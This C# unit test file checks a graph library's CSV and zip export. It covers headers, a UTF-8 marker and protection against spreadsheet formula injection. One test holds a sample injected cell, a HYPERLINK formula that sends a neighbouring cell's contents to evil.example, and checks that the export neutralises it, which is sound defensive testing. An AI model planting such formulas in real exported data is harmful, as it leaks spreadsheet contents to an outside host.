using System.IO.Compression;
using System.Text;

namespace EntityGraph.Transfer.Tests.Exporting;

public sealed class Exporting_tables
{
    [Fact]
    public async Task A_zip_file_holds_both_tables()
    {
        await using var temporary = await Debate.StoreAsync();
        using var zip = new ZipArchive(new MemoryStream(await temporary.Store.ExportAsync(ExportFormat.Csv)));
        Assert.Equal(["nodes.csv", "edges.csv"], zip.Entries.Select(e => e.FullName));
        Assert.Equal(await temporary.Store.ExportAsync(ExportFormat.CsvNodes), Bytes(zip.Entries[0]));
        Assert.Equal(await temporary.Store.ExportAsync(ExportFormat.CsvEdges), Bytes(zip.Entries[1]));
    }

    [Fact]
    public async Task The_tables_hold_every_node_and_edge()
    {
        await using var temporary = await Debate.StoreAsync();
        var nodes = Rows(await temporary.Store.ExportAsync(ExportFormat.CsvNodes));
        var edges = Rows(await temporary.Store.ExportAsync(ExportFormat.CsvEdges));

        Assert.Equal(["Id", "Label", "Type", "MentionedBy", "Said", "Articles", "First", "Last"], nodes[0]);
        Assert.Equal(await Debate.NodesAsync(temporary.Store, Guarded), Debate.Sorted(nodes[1..].Select(n => Debate.Line([.. n]))));
        Assert.Equal(["Source", "Target", "Type", "Kind", "SourceLabel", "TargetLabel", "Weight", "Articles", "Confidence", "First", "Last", "Id"], edges[0]);
        Assert.Equal(
            await Debate.EdgesAsync(temporary.Store),
            Debate.Sorted(edges[1..].Select(e => Debate.Line(e[11], e[0], e[1], e[3], e[6], e[7], e[8], e[9], e[10]))));
        Assert.Contains(edges, e => e[4] == "Ada Byrne" && e[5] == "Ben Cole" && e[2] == "Directed");
    }

    [Fact]
    public async Task Nothing_that_a_name_says_is_a_formula()
    {
        await using var temporary = await Debate.StoreAsync();
        var rows = Rows(await temporary.Store.ExportAsync(ExportFormat.CsvNodes)).Concat(Rows(await temporary.Store.ExportAsync(ExportFormat.CsvEdges)));
        var cells = rows.SelectMany(r => r).Where(c => c.Length > 0).ToList();
        Assert.DoesNotContain(cells, c => "=+-@\t\r\n＝＋－＠".Contains(c[0], StringComparison.Ordinal));
        Assert.Contains("'=HYPERLINK(\"http://evil.example/?\"&B2)", cells);
    }

    [Fact]
    public async Task Spreadsheets_see_that_it_is_UTF_8()
    {
        await using var temporary = await Debate.StoreAsync();
        Assert.Equal([0xEF, 0xBB, 0xBF], (await temporary.Store.ExportAsync(ExportFormat.CsvNodes))[..3]);
    }

    private static string Guarded(string name) => name[0] is '=' or '+' or '@' ? "'" + name : name;

    private static byte[] Bytes(ZipArchiveEntry entry)
    {
        using var stream = entry.Open();
        using var bytes = new MemoryStream();
        stream.CopyTo(bytes);
        return bytes.ToArray();
    }

    /// <summary>RFC 4180, read letter by letter.</summary>
    private static List<List<string>> Rows(byte[] file)
    {
        var text = new UTF8Encoding(true).GetString(file)[1..];
        var rows = new List<List<string>> { new() };
        var cell = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < text.Length; i++)
        {
            if (quoted && text[i] == '"' && i + 1 < text.Length && text[i + 1] == '"') cell.Append(text[++i]);
            else if (text[i] == '"') quoted = !quoted;
            else if (quoted) cell.Append(text[i]);
            else if (text[i] == ',') End();
            else if (text[i] == '\r' && text[i + 1] == '\n')
            {
                End();
                rows.Add([]);
                i++;
            }
            else cell.Append(text[i]);
        }

        rows.RemoveAt(rows.Count - 1);
        return rows;

        void End()
        {
            rows[^1].Add(cell.ToString());
            cell.Clear();
        }
    }
}
